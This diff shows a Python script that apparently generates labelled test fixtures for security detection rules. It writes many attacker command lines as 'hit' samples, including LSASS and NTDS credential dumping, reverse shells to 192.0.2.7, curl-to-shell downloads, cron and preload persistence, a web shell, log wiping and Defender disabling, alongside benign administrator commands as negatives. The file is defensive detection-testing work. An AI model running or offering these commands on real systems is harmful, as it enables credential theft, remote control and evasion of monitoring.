+    ("credential_shadow_copy_made", 'cmd.exe /c "C:\\Windows\\System32\\vssadmin.exe create shadow /for=C: 1> \\\\127.0.0.1\\ADMIN$\\__1684956600.123456 2>&1"'),
+    ("credential_shadow_copy_made", 'wmic process call create "cmd /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\<filename>"'),
+    ("credential_ntds_copy_command", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp > C:\\Windows\\Temp\\1.tmp"),
+    ("credential_hives_from_shadow_copy", "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Users\\Public"),
+    ("credential_registry_hives_command", "reg save hklm\\sam ss.dat"),
+    ("credential_registry_hives_command", "reg save hklm\\system sy.dat"),
+    ("credential_registry_hives_command", "reg.exe save HKLM\\SECURITY c:\\windows\\temp\\se.dat /y"),
+    ("tunnel_netsh_portproxy", 'cmd.exe /c "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.0.0.1 connectport=8443 protocol=tcp"'),
+    ("tunnel_netsh_portproxy", "netsh interface portproxy delete v4tov4 listenport=9999"),
+    ("tunnel_netsh_portproxy", "netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=10.0.0.9"),
+    ("lotl_disk_query", 'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"'),
+    ("credential_impacket_trace", "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1684956600.6216 2>&1"),
+    ("credential_impacket_trace", 'cmd.exe /Q /c net group "Domain Admins" /dom 1> \\\\127.0.0.1\\ADMIN$\\__1684956700.51 2>&1'),
+    ("credential_lsass_dump_other", "cmd.exe /Q /c powershell -exec bypass -W hidden -nop -E cgB1AG4AZABsAGwAMwAyAC4AZQB4AGUAIABDADoAXAB3AGkAbgBkAG8AdwBzAFwAUwB5AHMAdABlAG0AMwAyAFwAYwBvAG0AcwB2AGMAcwAuAGQAbABsACwAIABNAGkAbgBpAEQAdQBtAHAAIAA2ADIANAAgAEMAOgBcAHcAaQBuAGQAbwB3AHMAXAB0AGUAbQBwAFwAdgBtAHcAYQByAGUALQB2AGgAbwBzAHQALgBkAG0AcAAgAGYAdQBsAGwA"),
+    ("lotl_powershell_hidden_encoded", "cmd.exe /Q /c powershell -exec bypass -W hidden -nop -E cgB1AG4AZABsAGwAMwAyAC4AZQB4AGUAIABDADoAXAB3AGkAbgBkAG8AdwBzAFwAUwB5AHMAdABlAG0AMwAyAFwAYwBvAG0AcwB2AGMAcwAuAGQAbABsACwAIABNAGkAbgBpAEQAdQBtAHAAIAA2ADIANAAgAEMAOgBcAHcAaQBuAGQAbwB3AHMAXAB0AGUAbQBwAFwAdgBtAHcAYQByAGUALQB2AGgAbwBzAHQALgBkAG0AcAAgAGYAdQBsAGwA"),
+    ("credential_lsass_dump_command", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 552 C:\\windows\\temp\\vmware-vhost.dmp full"),
+    ("credential_lsass_dump_command", "rundll32 C:\\Windows\\System32\\comsvcs.dll MiniDump 624 lsass.dmp full"),
+    ("credential_lsass_dump_command", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 624 C:\\l.dmp full"),
+    ("credential_lsass_dump_command", 'powershell "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump (Get-Process lsass).id c:\\l.dmp full"'),
+    ("lotl_directory_export", 'cmd.exe /c "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree"'),
+    ("lotl_directory_export", "dnscmd . /enumrecords /zone corp.example . /additional"),
+    ("lotl_directory_export", "dnscmd . /enumzones"),
+    ("lotl_archive_of_loot", "7z.exe a -p MyPass c:\\windows\\temp\\out.7z c:\\windows\\temp\\ntds\\*"),
+    ("lotl_archive_of_loot", "7z.exe a -p{REDACTED} c:\\windows\\temp\\out.7z"),
+    ("lotl_archive_of_loot", "rar.exe a -hpPass -v500m c:\\users\\public\\out.rar c:\\users\\public\\documents"),
+    ("lotl_archive_of_loot", 'cmd.exe /c "makecab C:\\Windows\\Temp\\pro\\ntds.dit C:\\Windows\\Temp\\n.cab"'),
+    ("credential_stored_session_query", "reg query hklm\\software\\OpenSSH"),
+    ("credential_stored_session_query", "reg query hklm\\software\\OpenSSH\\Agent"),
+    ("credential_stored_session_query", "reg query hklm\\software\\realvnc"),
+    ("credential_stored_session_query", "reg query hklm\\software\\realvnc\\vncserver"),
+    ("credential_stored_session_query", "reg query hklm\\software\\realvnc\\Allusers\\vncserver"),
+    ("credential_stored_session_query", "reg query hkcu\\software\\administrator\\putty\\session"),
+    ("lotl_logon_log_query", 'cmd.exe /c "wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624) and TimeCreated[@SystemTime>=\'2024-01-01T00:00:00\']] and EventData[Data=\'admin\']]"'),
+    ("lotl_event_log_cleared", "wevtutil.exe cl System"),
+    ("lotl_logon_log_query", "Get-EventLog security -instanceid 4624 -after 2023-01-01 | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'"),
+    ("lotl_logon_log_query", 'Get-EventLog security -instanceid 4624 -After ((Get-date).AddDays(-7)) | Where-Object {$_.Message -like "*admin*"} | Export-Csv c:\\windows\\temp\\u.csv'),
+    ("credential_wmic_remote_process", 'wmic /node:10.0.0.5 /user:admin /password:pw process call create "cmd.exe /c ipconfig"'),
+    ("credential_wmic_remote_process", 'wmic /node:"10.0.0.5" process call create "cmd /c c:\\windows\\temp\\1.bat"'),
+    ("lotl_download_by_system_tool", 'cmd.exe /c "powershell Start-BitsTransfer -Source http://192.0.2.7/a.exe -Destination c:\\windows\\temp\\a.exe"'),
+    ("lotl_download_by_system_tool", "certutil -urlcache -f -split http://192.0.2.7/nc.exe C:\\Users\\Public\\nc.exe"),
+    ("webshell_dropper_command", "certutil.exe -decode c:\\windows\\temp\\a.txt c:\\inetpub\\wwwroot\\a.aspx"),
+    ("lotl_download_by_system_tool", "bitsadmin /transfer job /download /priority high http://192.0.2.7/x c:\\x.exe"),
+    ("lotl_powershell_download", 'powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://192.0.2.7:80/a\'))"'),
+    ("lotl_scheduled_task_from_temporary", 'schtasks /create /sc minute /mo 5 /tn "Updater" /tr "C:\\ProgramData\\u.exe" /ru SYSTEM /f'),
+    ("credential_lsass_dump_command", "procdump.exe -accepteula -ma lsass.exe c:\\windows\\temp\\l.dmp"),
+    ("credential_lsass_dump_other", 'tasklist /svc /fi "imagename eq lsass.exe"'),
+    ("tunnel_plink_reverse", "plink.exe -ssh -l user -pw pass -R 3390:127.0.0.1:3389 192.0.2.7"),
+    ("tunnel_plink_reverse", "echo y | plink.exe -N -R 4000:127.0.0.1:3389 -P 443 -l u -pw p 192.0.2.7"),
+    ("credential_mimikatz", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
+    ("credential_mimikatz", "mimikatz.exe privilege::debug token::elevate lsadump::secrets exit"),
+    ("credential_impacket_command", "secretsdump.py -system SYSTEM -ntds ntds.dit LOCAL"),
+    ("credential_impacket_command", "python3 wmiexec.py corp/admin:pass@10.0.0.5"),
+    ("credential_impacket_command", "impacket-psexec corp.local/admin@10.0.0.5 -hashes :31d6cfe0d16ae931b73c59d7e0c089c0"),
+    ("credential_impacket_command", "GetUserSPNs.py corp.local/user:pass -dc-ip 10.0.0.1 -request"),
+    ("credential_rubeus_command", "Rubeus.exe kerberoast /outfile:h.txt"),
+    ("lotl_shadow_copies_deleted", "vssadmin delete shadows /all /quiet"),
+    ("lotl_shadow_copies_deleted", "fsutil usn deletejournal /D C:"),
+    ("lotl_shadow_copies_deleted", "bcdedit /set {default} recoveryenabled No"),
+    ("tunnel_go_command", "frpc.exe -c frpc.ini"),
+    ("tunnel_go_command", "./frpc -c ./frpc.toml"),
+    ("tunnel_go_command", "chisel.exe client 192.0.2.7:443 R:1080:socks"),
+    ("tunnel_go_command", "./ligolo-agent -connect 192.0.2.7:11601 -ignore-cert"),
+    ("tunnel_earthworm_command", "ew -s rssocks -d 192.0.2.7 -e 8888"),
+    ("tunnel_earthworm_command", "./ew_for_linux64 -s ssocksd -l 1080"),
+    ("tunnel_earthworm_command", "./ew -s lcx_slave -d 192.0.2.7 -e 443 -f 127.0.0.1 -g 22"),
+    ("tunnel_go_command", "./iox fwd -r 127.0.0.1:22 -r 192.0.2.7:9999"),
+    ("tunnel_go_command", "gost -L=socks5://:1080"),
+    ("tunnel_go_command", "gost -L=:8080 -F=socks5+wss://192.0.2.7:443"),
+    ("tunnel_go_command", "./stowaway_agent -c 192.0.2.7:9999 -s hack --reconnect 8"),
+    ("tunnel_regeorg_command", "./neoreg.py -k password -u http://192.0.2.7/tunnel.php"),
+    ("tunnel_regeorg_command", "python neoreg.py generate -k pass"),
+    ("reverse_shell_dev_tcp", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"),
+    ("tunnel_softether_command", 'sc.exe create SysMon binPath= "C:\\Windows\\System32\\conhost.exe /service" start= auto'),
+    ("credential_psexec_command", "PsExec.exe \\\\10.0.0.5 -s cmd.exe"),
+    ("credential_psexec_command", "psexec64.exe -accepteula \\\\10.0.0.5 -u corp\\admin -p pw cmd"),
+    ("lotl_firewall_off", 'netsh advfirewall firewall add rule name="x" dir=in action=allow protocol=TCP localport=9999'),
+    ("lotl_defender_off", "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1 /f"),
+    ("lotl_defender_off", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
+    ("lotl_defender_off", 'Add-MpPreference -ExclusionPath "C:\\ProgramData"'),
+    ("webshell_dropper_command", 'echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["x"],"unsafe");%^> > C:\\inetpub\\wwwroot\\x.aspx'),
+    ("lotl_adfind", "adfind.exe -f objectcategory=computer"),
+    ("lotl_download_by_system_tool", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
+    ("lotl_download_by_system_tool", "mshta http://192.0.2.7/a.hta"),
+    ("lotl_program_runs_another", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'),
+    ("credential_mimikatz", "sekurlsa::minidump lsass.dmp"),
+    ("credential_domain_attack_command", "SharpHound.exe -c All"),
+    ("credential_domain_attack_command", "certipy find -u u@corp -p p -dc-ip 10.0.0.1"),
+    ("tunnel_public_relay", "ssh -R 80:localhost:22 serveo.net"),
+    ("tunnel_ngrok", "ngrok tcp 3389"),
+    ("tunnel_dns", "dnscat2-client --dns domain=x.example"),
+    ("tunnel_public_relay", "tailscale up --authkey tskey-auth-x"),
+    ("credential_impacket_command", "proxychains4 -q secretsdump.py corp/admin@10.0.0.5"),
+    ("lotl_event_log_cleared", "wevtutil cl Application"),
+    ("lotl_event_log_cleared", "Clear-EventLog -LogName Security"),
+    ("lotl_event_log_cleared", "Remove-Item (Get-PSReadlineOption).HistorySavePath"),
+    ("lotl_adfind", 'dsquery * -filter "(objectclass=user)" -attr * -limit 0'),
+]
+
+# The same for Unix and devices: text only.
+QUOTED_PLAIN = [
+    ("tunnel_socat_relay", "socat TCP4-LISTEN:8080,fork TCP4:10.0.0.5:80"),
+    ("reverse_shell_netcat", "nc -e /bin/bash 192.0.2.7 443"),
+    ("reverse_shell_netcat", "nc 192.0.2.7 443 -e /bin/sh"),
+    ("reverse_shell_netcat", "ncat --exec /bin/bash -lvp 4444"),
+    ("reverse_shell_netcat", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f"),
+    ("reverse_shell_dev_tcp", "bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'"),
+    ("lotl_packed_text_to_shell", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}"),
+    ("reverse_shell_dev_tcp", "0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196"),
+    ("reverse_shell_dev_tcp", "exec 5<>/dev/tcp/192.0.2.7/443; while read line 0<&5; do $line 2>&5 >&5; done"),
+    ("reverse_shell_script_language", 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")\''),
+    ("reverse_shell_script_language", 'perl -e \'use Socket;$i="192.0.2.7";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''),
+    ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);exec("/bin/sh -i <&3 >&3 2>&3");\''),
+    ("reverse_shell_script_language", 'ruby -rsocket -e\'f=TCPSocket.open("192.0.2.7",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\''),
+    ("reverse_shell_netcat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.7:443"),
+    ("bind_shell_command", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash"),
+    ("reverse_shell_netcat", "openssl s_client -quiet -connect 192.0.2.7:443 | /bin/sh 2>&1 | openssl s_client -quiet -connect 192.0.2.7:444"),
+    ("reverse_shell_netcat", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/s"),
+    ("persistence_preload_command", "echo '/lib/libx.so' > /etc/ld.so.preload"),
+    ("persistence_preload_command", "echo /usr/lib/.x/lib.so >> /etc/ld.so.preload"),
+    ("lotl_fetch_from_address", "curl -fsSL http://192.0.2.7/a.sh | bash"),
+    ("lotl_fetch_from_address", "wget -q -O - http://192.0.2.7/a.sh | sh"),
+    ("lotl_fetch_from_address", '(crontab -l; echo "*/5 * * * * curl http://192.0.2.7/a | sh") | crontab -'),
+    ("persistence_cron_command", '(crontab -l; echo "*/5 * * * * curl http://192.0.2.7/a | sh") | crontab -'),
+    ("persistence_cron_command", 'echo "* * * * * root /tmp/.x" >> /etc/crontab'),
+    ("persistence_second_root", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support"),
+    ("persistence_second_root", "echo 'x:$1$abc$def:0:0::/root:/bin/bash' >> /etc/passwd"),
+    ("persistence_sudoers_service_account", 'sudo -u root vi /etc/sudoers; echo "www-data ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'),
+    ("persistence_module_from_temporary", "insmod ./diamorphine.ko"),
+    ("lotl_hidden_capture", "tcpdump -i eth0 -w /tmp/.c.pcap port 21 or port 110"),
+    ("credential_shadow_copy_out", "cat /etc/passwd /etc/shadow > /tmp/.p"),
+    ("lotl_hidden_program_started", "setsid /dev/shm/.x >/dev/null 2>&1 &"),
+    ("webshell_aspx_request", 'echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["x"],"unsafe");%^> > C:\\inetpub\\wwwroot\\x.aspx'),
+    ("persistence_esxi_host", "esxcli network firewall set --enabled false"),
+    ("edge_salt_typhoon_command", "monitor capture CAP interface gi0/0 both match ipv4 protocol tcp any any eq 49"),
+    ("edge_cisco_guest_shell", "guestshell run bash"),
+    ("recon_linux_privilege_script", "./pspy64"),
+    ("recon_linux_privilege_script", "./linpeas.sh"),
+    ("tunnel_dns", "iodine -f -P pw t.example.com"),
+    ("lotl_linux_log_wiped", "rm -rf /var/log/wtmp /var/log/btmp"),
+    ("lotl_linux_log_wiped", "echo > /var/log/secure; echo > /var/log/messages"),
+    ("lotl_linux_log_wiped", "sed -i '/192.0.2.7/d' /var/log/auth.log"),
+    ("edge_startup_variable", 'nvram set rc_startup="wget http://192.0.2.7/x -O /tmp/x"'),
+    ("lotl_fetch_from_address", "busybox wget http://192.0.2.7/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m"),
+]
+
+
+# What administrators type.
+HONEST = [
+    "vssadmin list shadows",
+    "vssadmin list writers",
+    "wevtutil qe System /c:20 /rd:true /f:text",
+    "wevtutil gl security",
+    "netsh interface portproxy show all",
+    "netsh interface ipv4 show config",
+    "netsh advfirewall firewall add rule name=Web dir=in action=allow protocol=TCP localport=443",
+    "ntdsutil files info quit quit",
+    "reg save HKCU\\Software\\Example c:\\backup\\e.hiv",
+    "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services",
+    "reg add HKCU\\Software\\Example /v Colour /t REG_SZ /d blue /f",
+    "wmic logicaldisk get size,freespace,caption",
+    "wmic /node:srv1 os get caption",
+    "rundll32.exe printui.dll,PrintUIEntry /il",
+    "schtasks /create /tn Backup /tr \"C:\\Program Files\\Backup\\b.exe\" /sc daily /ru SYSTEM",
+    "sc create Agent binPath= \"C:\\Program Files\\Agent\\agent.exe\" start= auto",
+    "7z a d:\\backup\\projects.7z d:\\projects",
+    "certutil -hashfile setup.exe SHA256",
+    "bitsadmin /list /allusers",
+    "powershell -NoProfile -File C:\\Scripts\\report.ps1",
+    "Get-WinEvent -LogName Security -MaxEvents 20",
+    "net user alice /domain",
+    "net localgroup administrators",
+    "nltest /dsgetdc:corp.example",
+    "tasklist /svc /fi \"imagename eq svchost.exe\"",
+    "procdump.exe -ma w3wp.exe c:\\dumps",
+    "ssh -L 5432:localhost:5432 db.example.org",
+    "ssh -o StrictHostKeyChecking=accept-new backup@192.0.2.7 uptime",
+    "socat - UNIX-CONNECT:/run/haproxy.sock",
+    "nc -zv 192.0.2.7 443",
+    "curl -fsSL https://get.example.org/install.sh -o install.sh",
+    "wget http://192.0.2.7/backup/dump.sql.gz",
+    "crontab -l",
+    "(crontab -l; echo \"0 3 * * * /usr/local/bin/backup\") | crontab -",
+    "useradd -m -u 1005 -s /bin/bash alice",
+    "echo 'alice ALL=(ALL) ALL' > /etc/sudoers.d/alice",
+    "insmod /lib/modules/6.1.0/extra/driver.ko",
+    "tcpdump -i eth0 -w /var/tmp/trace.pcap port 443",
+    "tar czf - /home | ssh backup@192.0.2.7 'cat > home.tgz'",
+    "openssl s_client -connect www.example.org:443 -servername www.example.org",
+    "journalctl --vacuum-time=7d",
+    "find / -perm -4000 -type f",
+    "cat /etc/passwd | cut -d: -f1",
+    "chattr +i /etc/resolv.conf",
+    "nohup /usr/local/bin/agent >/dev/null 2>&1 &",
+    "esxcli software vib list",
+    "vim-cmd vmsvc/getallvms",
+    "show running-config | include logging",
+]
+
+
+def write(data, *path):
+    os.makedirs(os.path.dirname(os.path.join(*path)), exist_ok=True)
+    with open(os.path.join(*path), "xb") as f:
+        f.write(data if isinstance(data, bytes) else data.encode())
+
+
+def evtx(line):
+    return b"\0\0\0\0" + wide(line + "\r\n")
 
 
 def main():
     out = sys.argv[1]
     for rule, pair in SAMPLES.items():
         for kind, (name, data) in zip(("hit", "miss"), pair):
-            folder = os.path.join(out, kind, rule)
-            os.makedirs(folder)
-            with open(os.path.join(folder, name), "wb") as f:
-                f.write(data if isinstance(data, bytes) else data.encode())
+            write(data, out, kind, rule, name)
+    for n, (rule, line) in enumerate(QUOTED):
+        write(evtx(line), out, "hit", rule, "%d.evtx" % n)
+    for n, (rule, line) in enumerate(QUOTED + QUOTED_PLAIN):
+        write(line + "\n", out, "hit", rule, "%d.log" % n)
+    for n, line in enumerate(HONEST):
+        write(line + "\n", out, "honest", "%d.log" % n)
+        write(evtx(line), out, "honest", "%d.evtx" % n)
 
 
 main()
